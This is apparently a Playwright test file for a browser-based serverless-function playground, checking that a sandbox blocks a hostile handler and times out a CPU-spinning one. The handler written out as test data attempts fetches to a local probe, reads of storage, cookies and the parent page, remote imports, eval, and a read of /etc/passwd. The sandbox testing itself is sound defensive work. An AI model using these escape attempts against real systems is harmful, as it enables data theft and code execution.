/**
 * A person runs hostile code through the app: a handler that tries to reach the network, the
 * app's storage, the page and eval, and a handler stuck in a CPU loop. Each attempt fails
 * with an error the handler logs, the inspector shows that log, nothing reaches the loopback
 * server or the saved workspace, and the page stays usable while the watchdog waits.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test, type Page } from '@playwright/test';
import type { InvokeEnded, TracePrefix } from '../src/engine/trace';

interface HookedWindow {
  __lambdaPlayground: {
    editor?: { getValue(): string };
    store: {
      getState(): { snapshot?: { trace: TracePrefix; executing: boolean } };
      subscribe(listener: (state: { snapshot?: { trace: TracePrefix } }) => void): () => void;
    };
  };
  /** Real times, in `performance.now()` ms, recorded by the watchdog test. */
  __times?: { input?: number; click?: number; timedOut?: number };
}

/** A loopback server that records every connection and request a handler manages to make. */
let probe: Server;
let probeHits: string[] = [];
let probeOrigin: string;

test.beforeAll(async () => {
  probe = createServer((request, response) => {
    probeHits.push(`${request.method} ${request.url}`);
    response.setHeader('access-control-allow-origin', '*');
    response.setHeader('content-type', 'text/javascript');
    response.end('export const stolen = true;');
  });
  probe.on('connection', () => probeHits.push('connection'));
  await new Promise<void>((resolve) => probe.listen(0, '127.0.0.1', resolve));
  probeOrigin = `http://127.0.0.1:${(probe.address() as AddressInfo).port}`;
});

test.afterAll(async () => {
  await new Promise((resolve) => probe?.close(resolve));
});

test.beforeEach(async ({ context }) => {
  probeHits = [];
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
});

test.use({ viewport: { width: 1280, height: 800 } });

/**
 * Builds the hostile handler, which catches and logs each attempt's error. Its `settle` waits
 * for an attempt with 1 ms virtual sleeps, because the sandbox calls a handler idle, and so
 * timed out, when no virtual timer is pending for a short real time.
 */
function hostileHandler(origin: string): string {
  return `const probe = ${JSON.stringify(origin)};

async function settle(promise) {
  let settled = false;
  promise.then(() => { settled = true; }, () => { settled = true; });
  for (let step = 0; step < 1000 && !settled; step++) await new Promise((resolve) => setTimeout(resolve, 1));
  return settled ? promise : 'still pending';
}

async function attempt(name, action) {
  try {
    const value = await settle(Promise.resolve().then(action));
    console.log(name + ': REACHED ' + String(value));
  } catch (error) {
    console.log(name + ': blocked: ' + error.name + ': ' + error.message);
  }
}

export const handler = async () => {
  await attempt('fetch', () => fetch(probe + '/fetch').then((response) => response.text()));
  await attempt('localStorage', () => localStorage.getItem('lambda-playground:workspace'));
  await attempt('indexedDB', () => new Promise((resolve, reject) => {
    const request = indexedDB.open('stolen');
    request.onsuccess = () => resolve('opened');
    request.onerror = () => reject(request.error);
  }));
  await attempt('document.cookie', () => document.cookie);
  await attempt('parent.document', () => parent.document.title);
  await attempt('remote import', () => import(probe + '/x.js'));
  await attempt('eval', () => eval('1 + 1'));
  await attempt('new Function', () => new Function('return 1')());
  await attempt('node:fs', () => import('node:fs').then((fs) => fs.readFileSync('/etc/passwd', 'utf8')));
  return 'attempts done';
};
`;
}

/** The error each attempt must fail with, as the handler logs it. */
const BLOCKED: Record<string, RegExp> = {
  fetch: /^fetch: blocked: TypeError: fetch is not available in the playground/m,
  localStorage: /^localStorage: blocked: ReferenceError: localStorage is not defined/m,
  indexedDB: /^indexedDB: blocked: ReferenceError: indexedDB is not defined/m,
  'document.cookie': /^document.cookie: blocked: ReferenceError: document is not defined/m,
  'parent.document': /^parent.document: blocked: ReferenceError: parent is not defined/m,
  'remote import': /^remote import: blocked: TypeError: Failed to fetch dynamically imported module/m,
  eval: /^eval: blocked: EvalError: .*unsafe-eval/m,
  'new Function': /^new Function: blocked: EvalError: .*unsafe-eval/m,
  'node:fs': /^node:fs: blocked: TypeError: Failed to (fetch|resolve)/m,
};

const SPIN_HANDLER = `let calls = 0;

export const handler = async (event) => {
  calls += 1;
  if (event.spin) while (true) {}
  return { calls, spin: event.spin };
};
`;

async function openEditor(page: Page) {
  await page.goto('/');
  await page.locator('.monaco-editor .view-lines').waitFor();
  await page.waitForFunction(() => (window as unknown as HookedWindow).__lambdaPlayground?.editor !== undefined);
  await page.getByLabel('Playback speed').selectOption('100');
}

/** Pastes `text` over the editor's contents through the clipboard, as a person would. */
async function pasteIntoEditor(page: Page, text: string) {
  await page.locator('.monaco-editor .view-lines').click({ position: { x: 60, y: 8 } });
  await page.evaluate((value) => navigator.clipboard.writeText(value), text);
  await page.keyboard.press('ControlOrMeta+A');
  await page.keyboard.press('ControlOrMeta+V');
  await expect
    .poll(() => page.evaluate(() => (window as unknown as HookedWindow).__lambdaPlayground.editor?.getValue()))
    .toBe(text);
}

/** Returns every key and value in the page's localStorage. */
function savedStorage(page: Page): Promise<Record<string, string>> {
  return page.evaluate(() => Object.fromEntries(Object.entries(localStorage)));
}

/** Returns the trace's `invoke-end` events so far. */
async function endedInvocations(page: Page): Promise<InvokeEnded[]> {
  const trace = await page.evaluate(() => {
    const trace = (window as unknown as HookedWindow).__lambdaPlayground.store.getState().snapshot?.trace;
    return trace ? trace.events.slice(0, trace.length) : [];
  });
  return trace.filter((event): event is InvokeEnded => event.type === 'invoke-end');
}

/** Clicks the invocation's row and returns the inspector's log text. */
async function openInInspector(page: Page, requestId: string): Promise<string> {
  await page.locator(`[data-testid="invocation-row"][data-request-id="${requestId}"]`).click();
  const log = page.getByTestId('invocation-log');
  await expect(log).toContainText(`REPORT RequestId: ${requestId}`);
  return (await log.textContent()) ?? '';
}

test('hostile handler is blocked and logs why', async ({ page }) => {
  await openEditor(page);
  const code = hostileHandler(probeOrigin);
  await pasteIntoEditor(page, code);
  // Saving is debounced: wait for the saved copy of this code, then keep what storage holds.
  await expect.poll(async () => (await savedStorage(page))['lambda-playground:workspace'] ?? '').toContain(probeOrigin);
  const storageBefore = await savedStorage(page);

  await page.getByRole('button', { name: /^Invoke(?! async)/ }).click();
  await expect(page.getByTestId('timeline')).toHaveAttribute('data-run-status', 'idle', { timeout: 45_000 });

  // Model state first: one invocation that ran to its end and returned.
  const ended = await endedInvocations(page);
  expect(ended).toHaveLength(1);
  const invocation = ended[0]!;
  expect(invocation.outcome).toBe('success');
  expect(invocation.responseJson).toBe('"attempts done"');

  // Then the inspector: each attempt's error in the invocation's log.
  const log = await openInInspector(page, invocation.requestId);
  const handlerLines = log
    .split('\n')
    .filter((line) => line.includes('\tINFO\t'))
    .map((line) => line.split('\tINFO\t')[1])
    .join('\n');
  for (const [name, pattern] of Object.entries(BLOCKED)) {
    expect(handlerLines, name).toMatch(pattern);
  }
  expect(handlerLines).not.toContain('REACHED');

  expect(probeHits).toEqual([]);
  expect(await savedStorage(page)).toEqual(storageBefore);
  const databases = await page.evaluate(async () => (await indexedDB.databases()).map((database) => database.name));
  expect(databases).not.toContain('stolen');
});

test('CPU loop times out while page stays usable', async ({ page }) => {
  await openEditor(page);
  await pasteIntoEditor(page, SPIN_HANDLER);
  const eventText = page.getByLabel('Test event JSON');
  await eventText.fill('{ "spin": true }');

  // Record, in real time, when the person's input and click happen and when the timeout ends.
  await page.evaluate(() => {
    const hooked = window as unknown as HookedWindow;
    const times: NonNullable<HookedWindow['__times']> = {};
    hooked.__times = times;
    document.querySelector('textarea[aria-label="Test event JSON"]')!.addEventListener('input', () => {
      times.input ??= performance.now();
    });
    document.querySelector('button[aria-label="Keyboard shortcuts"]')!.addEventListener('click', () => {
      times.click ??= performance.now();
    });
    hooked.__lambdaPlayground.store.subscribe((state) => {
      if (state.snapshot?.trace.events.some((event) => event.type === 'invoke-end')) times.timedOut ??= performance.now();
    });
  });

  await page.getByRole('button', { name: /^Invoke(?! async)/ }).click();
  // The handler is spinning once its invocation has started and handler code is running.
  await page.waitForFunction(() => {
    const snapshot = (window as unknown as HookedWindow).__lambdaPlayground.store.getState().snapshot;
    return snapshot?.executing === true && snapshot.trace.events.some((event) => event.type === 'invoke-start');
  });

  // While the watchdog waits, the page takes input and clicks.
  await eventText.fill('{ "spin": false }');
  await expect(eventText).toHaveValue('{ "spin": false }');
  await page.getByRole('button', { name: 'Keyboard shortcuts' }).click();
  await expect(page.getByRole('dialog', { name: 'Keyboard shortcuts' })).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(page.getByRole('dialog', { name: 'Keyboard shortcuts' })).toHaveCount(0);

  await expect.poll(async () => (await endedInvocations(page)).length, { timeout: 30_000 }).toBe(1);
  const times = await page.evaluate(() => (window as unknown as HookedWindow).__times!);
  expect(times.input).toBeDefined();
  expect(times.click).toBeDefined();
  expect(times.timedOut).toBeDefined();
  expect(times.input!).toBeLessThan(times.timedOut!);
  expect(times.click!).toBeLessThan(times.timedOut!);

  const stuck = (await endedInvocations(page))[0]!;
  expect(stuck.outcome).toBe('timeout');
  expect(stuck.error?.errorMessage).toContain('Task timed out after 3.00 seconds');
  const stuckLog = await openInInspector(page, stuck.requestId);
  expect(stuckLog).toContain('Task timed out after 3.00 seconds');
  expect(stuckLog).toContain('never yielded to the event loop');

  // A later invocation runs and returns. It starts cold: in the reset environment, which runs
  // INIT again, or in a new one when playback has already reached the reset one's reclaim.
  await page.getByRole('button', { name: /^Invoke(?! async)/ }).click();
  await expect.poll(async () => (await endedInvocations(page)).length, { timeout: 30_000 }).toBe(2);
  const later = (await endedInvocations(page))[1]!;
  expect(later.outcome).toBe('success');
  expect(later.cold).toBe(true);
  expect(later.responseJson).toBe('{"calls":1,"spin":false}');
  const laterLog = await openInInspector(page, later.requestId);
  expect(laterLog).toContain('Init Duration');
});
